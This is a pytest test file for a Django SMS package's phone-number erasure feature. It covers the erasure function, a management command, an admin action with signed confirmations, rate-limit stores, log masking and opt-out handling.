"""Erasure of a phone number (issue 16): ``privacy.erase_phone_number``, the
``textflow_erase`` command, the admin's erasure action, and the admin of the opt-out list
and of SMS replies (issue 17).

The rows are made by the services where they can be (a real ``send_code`` and a wrong
check for the verifications and the rate-limit counters), so a key or a row the services
start writing for a number shows up here as one an erasure leaves behind. The file runs on
SQLite and PostgreSQL alike (``TEST_DATABASE=postgres``); the Redis store's counters have
tests of their own (``REDIS_URL``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.contrib.admin.models import ADDITION, LogEntry
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.contrib.contenttypes.models import ContentType
from django.contrib.sessions.backends.db import SessionStore
from django.contrib.sessions.models import Session
from django.core.cache import caches
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from textflow_django import bulk, privacy, replies, signals, verification
from textflow_django.admin import _erasure
from textflow_django.backends import locmem
from textflow_django.contrib.allauth.models import PhoneNumber
from textflow_django.exceptions import InvalidCode, ResendTooSoon
from textflow_django.models import (
    BulkRecipient,
    BulkSMSJob,
    OptOut,
    PhoneVerification,
    RateLimitCounter,
    SMSReply,
)
from textflow_django.phone import InvalidPhoneNumberError
from textflow_django.ratelimit import CacheStore, RedisCacheStore, get_store
from textflow_django.verification import _service

from .conftest import requires_postgres, requires_redis, tf

pytestmark = pytest.mark.django_db

NUMBER = "+12025550143"
MASKED = "+1********43"
OTHER = "+447400123456"
PV_CHANGELIST = "admin:textflow_phoneverification_changelist"
REPLY_CHANGELIST = "admin:textflow_smsreply_changelist"
OPT_OUT_CHANGELIST = "admin:textflow_optout_changelist"


# -- helpers ----------------------------------------------------------------------------------


def send_and_fail(number: str) -> None:
    """A real send and one wrong check: a verification row, the cooldown, the send caps and
    the wrong-code caps of ``number`` in the store."""
    sent = verification.send_code(number)
    code = locmem.outbox[-1].text.rsplit(" ", 1)[-1]
    with pytest.raises(InvalidCode):
        verification.check_code(
            number, "000000" if code != "000000" else "111111", verification_id=sent.verification_id
        )


def counter_keys(number: str) -> list[str]:
    """The database store's rows that name ``number`` (as a whole number, not a prefix)."""
    pattern = re.compile(re.escape(number) + r"(?!\d)")
    return sorted(
        k for k in RateLimitCounter.objects.values_list("key", flat=True) if pattern.search(k)
    )


def job_with(*numbers: str) -> BulkSMSJob:
    job = BulkSMSJob.objects.create(
        text="Sale", batch_size=10, total=len(numbers), sent=len(numbers), status="finished"
    )
    BulkRecipient.objects.bulk_create(
        BulkRecipient(job=job, phone_number=number, batch=0) for number in numbers
    )
    return job


def reply(number: str, text: str = "Hello", action: str = "") -> SMSReply:
    return SMSReply.objects.create(phone_number=number, text=text, action=action, digest=text)


def everything_of(number: str) -> dict[str, int]:
    """The rows of every kind that hold ``number``."""
    return {
        "verifications": PhoneVerification.objects.filter(phone_number=number).count(),
        "bulk_recipients": BulkRecipient.objects.filter(phone_number=number).count(),
        "replies": SMSReply.objects.filter(phone_number=number).count(),
        "opt_outs": OptOut.objects.filter(phone_number=number).count(),
        "counters": len(counter_keys(number)),
        "allauth": PhoneNumber.objects.filter(number=number).count(),
    }


@pytest.fixture
def populated() -> Iterator[dict[str, Any]]:
    """Rows of every kind for NUMBER and for OTHER (which an erasure of NUMBER keeps)."""
    send_and_fail(NUMBER)
    send_and_fail(OTHER)
    PhoneVerification.objects.create(
        phone_number=NUMBER, mode="local", expires_at=timezone.now() + dt.timedelta(minutes=5)
    )
    job = job_with(NUMBER, OTHER, "+12025550144")
    reply(NUMBER, "STOP", "opt_out")
    reply(NUMBER, "Who is this?")
    reply(OTHER, "STOP", "opt_out")
    OptOut.objects.create(phone_number=NUMBER, source="reply")
    OptOut.objects.create(phone_number=OTHER, source="reply")
    User = get_user_model()
    owner = User.objects.create_user("owner")
    typist = User.objects.create_user("typist")
    PhoneNumber.objects.create(user=owner, number=NUMBER, verified=True)
    PhoneNumber.objects.create(user=typist, number=NUMBER, verified=False)
    PhoneNumber.objects.create(user=typist, number=OTHER, verified=True)
    yield {"job": job}


# -- erase_phone_number -----------------------------------------------------------------------


def test_erasure_removes_every_kind_and_counts_exactly(populated: dict[str, Any]) -> None:
    counters = counter_keys(NUMBER)
    assert len(counters) >= 3  # cooldown, send caps, wrong-code caps
    other_before = everything_of(OTHER)

    report = privacy.erase_phone_number(NUMBER)

    assert report.phone_number == NUMBER
    assert report.as_dict() == {
        "verifications": 2,
        "bulk_recipients": 1,
        "replies": 2,
        "opt_outs": 0,
        "admin_log_entries": 0,
        "rate_limit_counters": len(counters),
        "allauth_phone_numbers": 2,
    }
    assert report.total == 7 + len(counters)
    assert everything_of(NUMBER) == {
        "verifications": 0,
        "bulk_recipients": 0,
        "replies": 0,
        "opt_outs": 1,  # kept: see the next test
        "counters": 0,
        "allauth": 0,
    }
    assert everything_of(OTHER) == other_before


def test_the_jobs_counts_stay(populated: dict[str, Any]) -> None:
    job = populated["job"]
    privacy.erase_phone_number(NUMBER)
    job.refresh_from_db()
    assert (job.total, job.sent) == (3, 3)
    assert sorted(BulkRecipient.objects.values_list("phone_number", flat=True)) == [
        "+12025550144",
        OTHER,
    ]


def test_every_jobs_recipients_are_found(monkeypatch: pytest.MonkeyPatch) -> None:
    """The recipients are looked up job by job (the index), the jobs a statement at a time."""
    monkeypatch.setattr(privacy, "_JOBS_PER_STATEMENT", 2)
    jobs = [job_with(NUMBER, OTHER) for _ in range(5)]
    assert privacy.erase_phone_number(NUMBER).bulk_recipients == 5
    assert list(BulkRecipient.objects.values_list("job", "phone_number")) == [
        (job.pk, OTHER) for job in jobs
    ]


def plan_of(sql: str, params: Any) -> str:
    with connection.cursor() as cursor:
        cursor.execute(f"EXPLAIN {sql}", params)
        return "\n".join(row[0] for row in cursor.fetchall())


@requires_postgres
def test_the_bulk_recipients_are_found_through_the_index() -> None:
    """Review finding: the number's bulk recipients were looked up by the number alone,
    which no index starts with: a sequential scan of the table (a million rows a campaign).
    Naming every job makes it probes of the unique (job, phone_number) index, as PostgreSQL
    plans it with real statistics (about 7 us a job: 13 ms for the whole erasure with 1,000
    jobs, against 50 ms for a scan of 1,000,000 rows that grows with the table)."""
    table = BulkRecipient._meta.db_table
    jobs = [job_with() for _ in range(3)]
    with connection.cursor() as cursor:
        for job in jobs:
            cursor.execute(
                f"INSERT INTO {table} (job_id, phone_number, batch) "  # noqa: S608
                "SELECT %s, '+1202' || lpad(g::text, 7, '0'), g / 1000 "
                "FROM generate_series(5520001, 5570000) g",  # +12025550143 among them
                [job.pk],
            )
        cursor.execute(f"ANALYZE {table}")
    # The check can fail: the lookup by the number alone is a sequential scan.
    alone = BulkRecipient.objects.filter(phone_number=NUMBER).values("pk")
    assert "Seq Scan" in plan_of(*alone.query.sql_with_params())

    with CaptureQueriesContext(connection) as captured:
        report = privacy.erase_phone_number(NUMBER)

    assert report.bulk_recipients == 3
    deleting = f'DELETE FROM "{table}"'  # noqa: S608 - a statement to look for, not to run
    [delete] = [q["sql"] for q in captured.captured_queries if q["sql"].startswith(deleting)]
    plan = plan_of(delete, None)
    assert "Index Scan using textflow_bulk_unique" in plan and "Seq Scan" not in plan, plan


def test_the_opt_out_is_kept_unless_asked(
    populated: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    opted_in: list[dict[str, Any]] = []
    signals.opted_in.connect(record := lambda **kw: opted_in.append(kw), weak=False)
    try:
        with django_capture_on_commit_callbacks(execute=True):
            kept = privacy.erase_phone_number(NUMBER)
        assert (kept.opt_out_kept, kept.opt_outs) == (True, 0)
        assert OptOut.objects.filter(phone_number=NUMBER).exists()

        with django_capture_on_commit_callbacks(execute=True):
            removed = privacy.erase_phone_number(NUMBER, keep_opt_out=False)
        assert (removed.opt_out_kept, removed.opt_outs) == (False, 1)
        assert not OptOut.objects.filter(phone_number=NUMBER).exists()
        assert OptOut.objects.filter(phone_number=OTHER).exists()
    finally:
        signals.opted_in.disconnect(record)
    # The person did not opt back in: no opted_in (phone_number_erased says what happened).
    assert opted_in == []


def test_a_second_erasure_finds_nothing(populated: dict[str, Any]) -> None:
    privacy.erase_phone_number(NUMBER)
    again = privacy.erase_phone_number(NUMBER)
    assert again.as_dict() == {
        "verifications": 0,
        "bulk_recipients": 0,
        "replies": 0,
        "opt_outs": 0,
        "admin_log_entries": 0,
        "rate_limit_counters": 0,
        "allauth_phone_numbers": 0,
    }
    assert again.total == 0
    assert again.opt_out_kept  # still on the list, and the report says so again


def test_the_number_is_read_as_the_site_reads_numbers(settings: Any) -> None:
    reply(NUMBER)
    tf(settings, DEFAULT_REGION="US")
    assert privacy.erase_phone_number("(202) 555-0143").replies == 1


def test_a_number_of_a_country_refused_since_is_still_erasable(settings: Any) -> None:
    reply(OTHER)
    tf(settings, BLOCKED_COUNTRIES=["GB"])
    assert privacy.erase_phone_number(OTHER).replies == 1


@pytest.mark.parametrize("value", ["not a number", "", "+1 202", None, "+1900555012"])
def test_what_is_no_number_raises_the_apis_error_and_erases_nothing(value: object) -> None:
    reply(NUMBER)
    with pytest.raises(InvalidPhoneNumberError):
        privacy.erase_phone_number(value)
    assert SMSReply.objects.count() == 1


def test_a_receiver_adds_its_counts_and_sees_the_number(populated: dict[str, Any]) -> None:
    seen: list[dict[str, Any]] = []

    def receiver(sender: object, phone_number: str, erased: dict[str, int], **kw: Any) -> None:
        seen.append({"sender": sender, "number": phone_number, "so_far": dict(erased), **kw})
        erased["crm_contacts"] = 3

    signals.phone_number_erased.connect(receiver)
    try:
        report = privacy.erase_phone_number(NUMBER)
    finally:
        signals.phone_number_erased.disconnect(receiver)

    assert dict(report.others) == {"allauth_phone_numbers": 2, "crm_contacts": 3}
    assert report.as_dict()["crm_contacts"] == 3
    [call] = seen
    assert call["sender"] == "textflow_django.privacy"
    assert call["number"] == NUMBER
    assert call["dry_run"] is False
    assert call["so_far"]["verifications"] == 2  # the package's own rows went first


def test_a_receiver_that_raises_undoes_the_whole_erasure(populated: dict[str, Any]) -> None:
    before = everything_of(NUMBER)

    def broken(**kwargs: Any) -> None:
        raise RuntimeError("the CRM is down")

    signals.phone_number_erased.connect(broken)
    try:
        with pytest.raises(RuntimeError):
            privacy.erase_phone_number(NUMBER)
    finally:
        signals.phone_number_erased.disconnect(broken)
    assert everything_of(NUMBER) == before


def test_a_receivers_count_that_is_no_number_undoes_the_erasure(
    populated: dict[str, Any],
) -> None:
    before = everything_of(NUMBER)

    def sloppy(erased: dict[str, object], **kwargs: Any) -> None:
        erased["crm"] = "three"

    signals.phone_number_erased.connect(sloppy)
    try:
        with pytest.raises(ValueError):
            privacy.erase_phone_number(NUMBER)
    finally:
        signals.phone_number_erased.disconnect(sloppy)
    assert everything_of(NUMBER) == before


def test_a_receivers_kind_named_like_a_log_field_stays_out_of_the_line(
    caplog: pytest.LogCaptureFixture, django_capture_on_commit_callbacks: Any
) -> None:
    caplog.set_level(logging.INFO, logger="textflow_django")

    def clashing(erased: dict[str, int], **kwargs: Any) -> None:
        erased.update({"key": 1, "number": 2, "profiles": 3})

    signals.phone_number_erased.connect(clashing)
    try:
        with django_capture_on_commit_callbacks(execute=True):
            report = privacy.erase_phone_number(NUMBER)
    finally:
        signals.phone_number_erased.disconnect(clashing)
    assert dict(report.others) == {"allauth_phone_numbers": 0, "key": 1, "number": 2, "profiles": 3}
    [line] = logged(caplog)
    assert line.startswith(f"textflow.privacy.erased number={MASKED} ")
    assert " profiles=3 " in line and " key=" not in line and "number=2" not in line


def test_a_dry_run_counts_exactly_and_changes_nothing(
    populated: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    before = everything_of(NUMBER)
    caplog.set_level(logging.INFO, logger="textflow_django")
    flags: list[object] = []
    signals.phone_number_erased.connect(
        record := lambda **kw: flags.append(kw["dry_run"]), weak=False
    )
    try:
        preview = privacy.erase_phone_number(NUMBER, keep_opt_out=False, dry_run=True)
    finally:
        signals.phone_number_erased.disconnect(record)
    assert flags == [True]
    assert everything_of(NUMBER) == before
    assert "textflow.privacy.erased" not in caplog.text

    done = privacy.erase_phone_number(NUMBER, keep_opt_out=False)
    assert preview.dry_run and not done.dry_run
    assert preview.as_dict() == done.as_dict()


def logged(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if "textflow.privacy" in r.getMessage()]


def test_one_log_line_with_the_number_masked_once_committed(
    populated: dict[str, Any],
    caplog: pytest.LogCaptureFixture,
    django_capture_on_commit_callbacks: Any,
) -> None:
    caplog.set_level(logging.INFO, logger="textflow_django")
    with django_capture_on_commit_callbacks(execute=True):
        report = privacy.erase_phone_number(NUMBER)
        assert logged(caplog) == []  # not before the erasure commits
    [line] = logged(caplog)
    counters = report.rate_limit_counters
    assert line == (
        f"textflow.privacy.erased number={MASKED} verifications=2 bulk_recipients=1 replies=2 "
        f"opt_outs=0 admin_log_entries=0 rate_limit_counters={counters} "
        "allauth_phone_numbers=2 opt_out=kept"
    )
    assert NUMBER not in caplog.text


def test_the_admin_history_shows_the_number_masked(admin_user: Any) -> None:
    optout = OptOut.objects.create(phone_number=NUMBER, source="admin")
    kinds = (
        ContentType.objects.get_for_model(OptOut),
        ContentType.objects.get_for_model(get_user_model()),
    )

    def entry(kind: ContentType, text: str) -> LogEntry:
        return LogEntry.objects.create(
            user=admin_user,
            content_type=kind,
            object_id=str(optout.pk),
            object_repr=text,
            action_flag=ADDITION,
        )

    mine = entry(kinds[0], f"{NUMBER} (verified)")
    longer = entry(kinds[0], f"{NUMBER}9")  # another number that starts with this one
    theirs = entry(kinds[1], f"user {NUMBER}")  # a project's model: the project's to handle

    report = privacy.erase_phone_number(NUMBER)

    assert report.admin_log_entries == 1
    for row in (mine, longer, theirs):
        row.refresh_from_db()
    assert mine.object_repr == f"{MASKED} (verified)"
    assert longer.object_repr == f"{NUMBER}9"
    assert theirs.object_repr == f"user {NUMBER}"


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("+44 7400 123456", "'+44********56' (country_not_allowed)"),
        ("+447400123457", "'+44********57' (country_not_allowed)"),
        ("2025550143", "'********43' (no_country_code)"),
        ("+1 202 555 0143 (mobile)", "'+1********43 (mobile)' (invalid)"),
        ("tel:+12025550143x", "'tel:+1********43x' (invalid)"),
        ("hello", "'hello' (invalid)"),
        ("+1 202", "'+1 202' (invalid)"),  # too few digits to be a number: as typed
    ],
)
def test_a_bulk_jobs_samples_of_invalid_input_keep_no_number(
    settings: Any, typed: str, stored: str
) -> None:
    """Review finding: the erasure masked a sample only when its value read as the number,
    so a number typed otherwise (no country code, words around it) stayed. The ingest now
    stores every number in a sample masked, however typed; the erasure has none to find."""
    tf(settings, BLOCKED_COUNTRIES=["GB"])
    job = bulk.create_job(text="Sale", numbers=[typed, "+12025550199"])
    assert job.invalid_samples == [f"item 1: {stored}"]
    assert "5550143" not in str(job.invalid_samples) and "7400123" not in str(job.invalid_samples)


def test_a_sample_typed_in_the_default_region_keeps_no_number(settings: Any) -> None:
    tf(settings, DEFAULT_REGION="US", BLOCKED_COUNTRIES=["US"])
    job = bulk.create_job(text="Sale", numbers=["(202) 555-0143", "+447400123456"])
    assert job.invalid_samples == ["item 1: '(********43' (country_not_allowed)"]


def test_a_site_without_the_admin_is_passed_over(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(privacy.apps, "is_installed", lambda name: False)
    assert privacy.erase_phone_number(NUMBER).admin_log_entries == 0


# -- the rate-limit store ---------------------------------------------------------------------


def test_no_counter_of_the_number_survives_on_the_database_store(
    settings: Any, django_capture_on_commit_callbacks: Any
) -> None:
    """The keys ``privacy.store_keys`` names are every key the services write for a number:
    a send, a refused resend, wrong checks, replies (their retry claims, by digest) and a
    reply's confirmation."""
    send_and_fail(NUMBER)
    with pytest.raises(ResendTooSoon):
        verification.send_code(NUMBER)
    tf(settings, REPLY_CONFIRMATIONS=True)
    with django_capture_on_commit_callbacks(execute=True):
        stop = replies.receive(NUMBER, "STOP")
        hello = replies.receive(NUMBER, "Hello")
    assert stop.reply is not None and hello.reply is not None
    retry_claims = [f"reply:{stop.reply.digest}", f"reply:{hello.reply.digest}"]
    # The last reply's claim (a reply releases its predecessor's: replies.receive).
    assert RateLimitCounter.objects.filter(key=retry_claims[1]).exists()
    assert f"reply-confirm:{NUMBER}" in counter_keys(NUMBER)

    privacy.erase_phone_number(NUMBER)

    assert counter_keys(NUMBER) == []
    assert not RateLimitCounter.objects.filter(key__in=retry_claims).exists()


def test_after_an_erasure_the_number_may_ask_for_a_code_at_once() -> None:
    verification.send_code(NUMBER)
    with pytest.raises(ResendTooSoon):
        verification.send_code(NUMBER)
    privacy.erase_phone_number(NUMBER)
    verification.send_code(NUMBER)  # the cooldown went with the erasure


def cache_keys(number: str) -> list[str]:
    """The keys of the default cache (local memory: its keys can be listed) that name
    ``number``, without the cache's own prefix and version."""
    pattern = re.compile(re.escape(number) + r"(?!\d)")
    cache = caches["default"]
    made = cache.make_key("")
    keys = [key.removeprefix(made) for key in cache._cache]  # type: ignore[attr-defined]
    return sorted(key for key in keys if pattern.search(key))


def test_the_cache_store_forgets_the_number(settings: Any) -> None:
    """Every key of the number goes: the cooldown, the send caps and the wrong-code caps
    (a ``number`` scope of ``FAILED_CHECK_LIMITS``, which a site may set; W006 warns)."""
    failed = {"ip": ("60/h",), "number": ("10/h", "20/d")}
    tf(settings, RATELIMIT_STORE="cache", RATELIMIT_CACHE="default", FAILED_CHECK_LIMITS=failed)
    caches["default"].clear()
    send_and_fail(NUMBER)
    send_and_fail(OTHER)
    assert type(get_store()) is CacheStore
    found = cache_keys(NUMBER)
    # The cooldown, and the send and wrong-code caps' counts (one key per window length).
    for kind in ("cooldown:", "send:number:", "fail:number:"):
        assert [key for key in found if key.startswith(f"textflow:rl:{kind}{NUMBER}")], found
    others = cache_keys(OTHER)

    preview = privacy.erase_phone_number(NUMBER, dry_run=True)
    assert preview.rate_limit_counters is None  # a cache cannot be counted without a change
    assert "rate_limit_counters" not in preview.as_dict()
    assert cache_keys(NUMBER) == found
    report = privacy.erase_phone_number(NUMBER)

    assert report.rate_limit_counters == len(found)
    assert cache_keys(NUMBER) == []  # the cooldown, the send caps and the wrong-code caps
    assert cache_keys(OTHER) == others
    verification.send_code(NUMBER)  # no cooldown left
    with pytest.raises(ResendTooSoon):
        verification.send_code(OTHER)  # the other number's is untouched
    caches["default"].clear()


@requires_redis
def test_the_redis_store_forgets_every_key_of_the_number(settings: Any) -> None:
    tf(settings, RATELIMIT_STORE="cache", RATELIMIT_CACHE="redis")
    store = get_store()
    assert isinstance(store, RedisCacheStore)
    client = store._redis().client

    def keys(number: str) -> list[str]:
        pattern = re.compile(re.escape(number) + r"(?!\d)")
        return sorted(
            name.decode()
            for name in client.scan_iter(match="*textflow:rl:*")
            if pattern.search(name.decode())
        )

    for key in keys(NUMBER) + keys(OTHER):  # a previous run's leftovers
        client.delete(key)
    send_and_fail(NUMBER)
    send_and_fail(OTHER)
    received = replies.receive(NUMBER, "Hello")
    assert received.reply is not None
    [retry_claim] = [
        name for name in client.scan_iter(match=f"*textflow:rl:reply:{received.reply.digest}")
    ]
    found, others = keys(NUMBER), keys(OTHER)
    assert len(found) >= 3

    report = privacy.erase_phone_number(NUMBER)

    assert report.rate_limit_counters == len(found) + 1
    assert keys(NUMBER) == []
    assert not client.exists(retry_claim)
    assert keys(OTHER) == others
    for key in others:
        client.delete(key)


# -- sessions -----------------------------------------------------------------------------------


def session_request() -> Any:
    request = RequestFactory().post("/", REMOTE_ADDR="203.0.113.7")
    request.session = SessionStore()
    request.session.create()
    return request


def test_a_session_that_asked_for_a_code_holds_no_number() -> None:
    """Review finding: the session kept its codes' handles keyed by the number, for the
    session's life (a database row, or a cookie the browser holds), out of an erasure's
    reach. They are keyed by a keyed hash of the number now, and still found by it."""
    request = session_request()
    verification.send_code(NUMBER, request=request)
    request.session.save()
    stored = Session.objects.get(session_key=request.session.session_key)
    data = json.dumps(SessionStore().decode(stored.session_data))
    assert "2025550143" not in data and NUMBER[-7:] not in data, data
    code = locmem.outbox[-1].text.rsplit(" ", 1)[-1]
    again = SessionStore(request.session.session_key)
    checked = session_request()
    checked.session = again
    assert verification.check_code(NUMBER, code, request=checked).phone_number == NUMBER


@pytest.mark.parametrize("old", [{NUMBER: "a-handle"}, ["odd"], "odd"])
def test_a_session_of_the_old_format_is_read_as_holding_nothing(old: object) -> None:
    """A session written before (its handles keyed by the number) is no error: its entries
    are absent, and the next code asked for drops them."""
    request = session_request()
    request.session[_service.SESSION_KEY] = old
    with pytest.raises(InvalidCode):
        verification.check_code(NUMBER, "123456", request=request)
    verification.send_code(NUMBER, request=request)
    [(slot, _handle)] = request.session[_service.SESSION_KEY].items()
    assert NUMBER not in slot


# -- the allauth integration ------------------------------------------------------------------


def test_the_allauth_phone_numbers_of_the_number_go(populated: dict[str, Any]) -> None:
    report = privacy.erase_phone_number(NUMBER)
    assert report.others == {"allauth_phone_numbers": 2}
    assert list(PhoneNumber.objects.values_list("number", flat=True)) == [OTHER]


# -- manage.py textflow_erase -----------------------------------------------------------------


def erase(*args: str) -> str:
    out = io.StringIO()
    call_command("textflow_erase", *args, stdout=out)
    return out.getvalue()


def test_the_command_says_what_it_erased_number_by_number(populated: dict[str, Any]) -> None:
    counters = len(counter_keys(NUMBER))
    out = erase(NUMBER, "+12025550199")
    assert out.splitlines() == [
        f"{MASKED}: erased 2 verifications, 1 bulk SMS recipient, 2 SMS replies, "
        f"{counters} rate-limit counters, 2 allauth phone numbers. "
        "Kept on the opt-out list (--remove-opt-out removes it).",
        "+1********99: nothing to erase.",
    ]
    assert NUMBER not in out
    assert everything_of(NUMBER)["verifications"] == 0


def test_the_command_removes_the_opt_out_when_asked(populated: dict[str, Any]) -> None:
    out = erase(NUMBER, "--remove-opt-out")
    assert "1 opt-out list entry" in out
    assert "Kept on the opt-out list" not in out
    assert not OptOut.objects.filter(phone_number=NUMBER).exists()


def test_the_commands_dry_run_changes_nothing(populated: dict[str, Any]) -> None:
    before = everything_of(NUMBER)
    counters = len(counter_keys(NUMBER))
    out = erase("--dry-run", NUMBER)
    assert out.splitlines() == [
        "Dry run: nothing is erased.",
        f"{MASKED}: would erase 2 verifications, 1 bulk SMS recipient, 2 SMS replies, "
        f"{counters} rate-limit counters, 2 allauth phone numbers. "
        "Kept on the opt-out list (--remove-opt-out removes it).",
    ]
    assert everything_of(NUMBER) == before


def test_the_command_reads_every_number_before_erasing_any(populated: dict[str, Any]) -> None:
    before = everything_of(NUMBER)
    with pytest.raises(CommandError) as raised:
        erase(NUMBER, "+1 202 555 01x3")
    # Masked as the other lines are (review finding: the raw input was printed).
    assert "'+1*******13' is not a phone number" in str(raised.value)
    assert "202 555" not in str(raised.value)
    assert "nothing was erased" in str(raised.value)
    assert everything_of(NUMBER) == before


def test_the_command_erases_a_number_given_twice_once() -> None:
    reply(NUMBER)
    out = erase(NUMBER, "+1 (202) 555-0143")
    assert out.splitlines() == [f"{MASKED}: erased 1 SMS reply."]


def test_the_commands_dry_run_on_a_cache_store_says_its_counters_are_not_counted(
    settings: Any,
) -> None:
    tf(settings, RATELIMIT_STORE="cache", RATELIMIT_CACHE="default")
    caches["default"].clear()
    verification.send_code(NUMBER)
    out = erase("--dry-run", NUMBER)
    assert out.splitlines()[1] == (
        f"{MASKED}: would erase 1 verification. "
        "(Rate-limit counters in a cache are not counted in a dry run.)"
    )
    with pytest.raises(ResendTooSoon):
        verification.send_code(NUMBER)  # the cooldown is still there
    caches["default"].clear()


# -- the admin's erasure action ---------------------------------------------------------------


def messages_of(response: Any) -> list[str]:
    return [str(m) for m in response.context["messages"]]


def previewed(page: Any) -> str:
    """The signed list of numbers a confirmation page's form posts back."""
    found = re.search(r'name="previewed" value="([^"]+)"', page.content.decode())
    assert found, "no signed list of previewed numbers on the page"
    return found[1]


def confirm(client: Client, url: str, data: dict[str, Any], **box: str) -> Any:
    """The action's confirmation page for ``data``, then its form posted back ("Yes,
    erase"), with the page's box when ``box`` says so; the response after the redirect."""
    page = client.post(url, data)
    answer = {**data, "post": "yes", "previewed": previewed(page), **box}
    return client.post(url, answer, follow=True)


def test_the_action_asks_first_with_what_would_go(
    admin_client: Client, populated: dict[str, Any]
) -> None:
    before = everything_of(NUMBER)
    rows = list(PhoneVerification.objects.filter(phone_number=NUMBER).values_list("pk", flat=True))

    page = admin_client.post(
        reverse(PV_CHANGELIST), {"action": "erase_numbers", "_selected_action": rows}
    )

    assert page.status_code == 200
    assert page.templates[0].name == "textflow_django/admin/erase_confirmation.html"
    html = page.content.decode()
    assert NUMBER in html
    assert "2 verifications" in html and "2 SMS replies" in html
    assert "on the list" in html and 'name="remove_opt_out"' in html
    for pk in rows:
        assert f'name="_selected_action" value="{pk}"' in html
    assert 'name="post" value="yes"' in html
    assert everything_of(NUMBER) == before  # nothing yet


def test_the_action_erases_once_confirmed(admin_client: Client, populated: dict[str, Any]) -> None:
    rows = list(PhoneVerification.objects.filter(phone_number=NUMBER).values_list("pk", flat=True))
    counters = len(counter_keys(NUMBER))

    done = confirm(
        admin_client, reverse(PV_CHANGELIST), {"action": "erase_numbers", "_selected_action": rows}
    )

    assert done.status_code == 200
    assert messages_of(done) == [
        "Erased the data of 1 number: 2 verifications, 1 bulk SMS recipient, 2 SMS replies, "
        f"{counters} rate-limit counters, 2 allauth phone numbers.",
        "1 number stays on the opt-out list, so no bulk SMS reaches it again.",
    ]
    assert everything_of(NUMBER)["verifications"] == 0
    assert OptOut.objects.filter(phone_number=NUMBER).exists()
    assert everything_of(OTHER)["verifications"] == 1


def test_the_box_takes_the_numbers_off_the_opt_out_list(
    admin_client: Client, populated: dict[str, Any]
) -> None:
    rows = list(SMSReply.objects.filter(phone_number=NUMBER).values_list("pk", flat=True))
    done = confirm(
        admin_client,
        reverse(REPLY_CHANGELIST),
        {"action": "erase_numbers", "_selected_action": rows},
        remove_opt_out="yes",
    )
    assert "1 opt-out list entry" in messages_of(done)[0]
    assert not OptOut.objects.filter(phone_number=NUMBER).exists()
    assert OptOut.objects.filter(phone_number=OTHER).exists()


def test_all_rows_selected_erase_the_numbers_the_filters_show(
    admin_client: Client, populated: dict[str, Any]
) -> None:
    url = reverse(REPLY_CHANGELIST) + "?action__exact=opt_out&q=%2B1"
    # The page's rows are posted too (Django runs no action without one), as the list does.
    shown = SMSReply.objects.get(phone_number=NUMBER, action="opt_out").pk
    page = admin_client.post(
        url, {"action": "erase_numbers", "select_across": "1", "_selected_action": [shown]}
    )
    html = page.content.decode()
    assert NUMBER in html and OTHER not in html
    assert 'name="select_across" value="1"' in html
    assert html.count('name="_selected_action"') == 1

    admin_client.post(
        url,
        {
            "action": "erase_numbers",
            "select_across": "1",
            "_selected_action": [shown],
            "post": "yes",
            "previewed": previewed(page),
        },
    )

    assert SMSReply.objects.filter(phone_number=NUMBER).count() == 0
    assert SMSReply.objects.filter(phone_number=OTHER).count() == 1


def test_the_confirmation_erases_only_what_its_page_showed(admin_client: Client) -> None:
    """Review finding: the confirmation read the selection again, so a STOP that arrived
    while the superuser read the page (all rows selected) was erased unseen, and with the
    box ticked a number that opted out meanwhile lost its opt-out. The page's numbers go,
    signed, and the box acts on those the page showed on the list."""
    url = reverse(REPLY_CHANGELIST) + "?action__exact=opt_out"
    shown = reply(NUMBER, "STOP", "opt_out")
    OptOut.objects.create(phone_number=NUMBER, source="reply")
    data = {
        "action": "erase_numbers",
        "select_across": "1",
        "_selected_action": [shown.pk],
    }
    page = admin_client.post(url, data)
    assert OTHER not in page.content.decode()
    # Meanwhile: a STOP from a number the page never showed.
    reply(OTHER, "STOP", "opt_out")
    OptOut.objects.create(phone_number=OTHER, source="reply")

    done = admin_client.post(
        url, {**data, "post": "yes", "previewed": previewed(page), "remove_opt_out": "yes"}
    )

    assert done.status_code == 302
    assert not SMSReply.objects.filter(phone_number=NUMBER).exists()
    assert not OptOut.objects.filter(phone_number=NUMBER).exists()  # shown on the list
    assert SMSReply.objects.filter(phone_number=OTHER).exists(), "erased unseen"
    assert OptOut.objects.filter(phone_number=OTHER).exists()


def test_a_fresh_stop_keeps_its_opt_out_whatever_the_box(admin_client: Client) -> None:
    """A number the page showed off the opt-out list, which opted out before the
    confirmation: the box (shown for another number) does not take it off."""
    listed = reply(NUMBER, "STOP", "opt_out")
    OptOut.objects.create(phone_number=NUMBER, source="reply")
    later = reply(OTHER, "Who is this?")
    data = {"action": "erase_numbers", "_selected_action": [listed.pk, later.pk]}
    page = admin_client.post(reverse(REPLY_CHANGELIST), data)
    OptOut.objects.create(phone_number=OTHER, source="reply")  # its STOP, meanwhile
    admin_client.post(
        reverse(REPLY_CHANGELIST),
        {**data, "post": "yes", "previewed": previewed(page), "remove_opt_out": "yes"},
    )
    assert not SMSReply.objects.exists()
    assert list(OptOut.objects.values_list("phone_number", flat=True)) == [OTHER]


def test_a_confirmation_without_the_pages_signature_erases_nothing(
    admin_client: Client, populated: dict[str, Any]
) -> None:
    """Tampered with, missing, or signed for another superuser: the page is shown again."""
    rows = list(PhoneVerification.objects.filter(phone_number=NUMBER).values_list("pk", flat=True))
    data = {"action": "erase_numbers", "_selected_action": rows}
    before = everything_of(NUMBER)
    signed = previewed(admin_client.post(reverse(PV_CHANGELIST), data))
    User = get_user_model()
    other_admin = User.objects.create_superuser("other", password="pw")  # noqa: S106
    theirs = Client()
    theirs.force_login(other_admin)
    tampered = signed.replace(signed.split(":")[0], signed.split(":")[0][:-2] + "xx")
    for client, value in ((admin_client, tampered), (admin_client, ""), (theirs, signed)):
        response = client.post(reverse(PV_CHANGELIST), {**data, "post": "yes", "previewed": value})
        assert response.status_code == 200
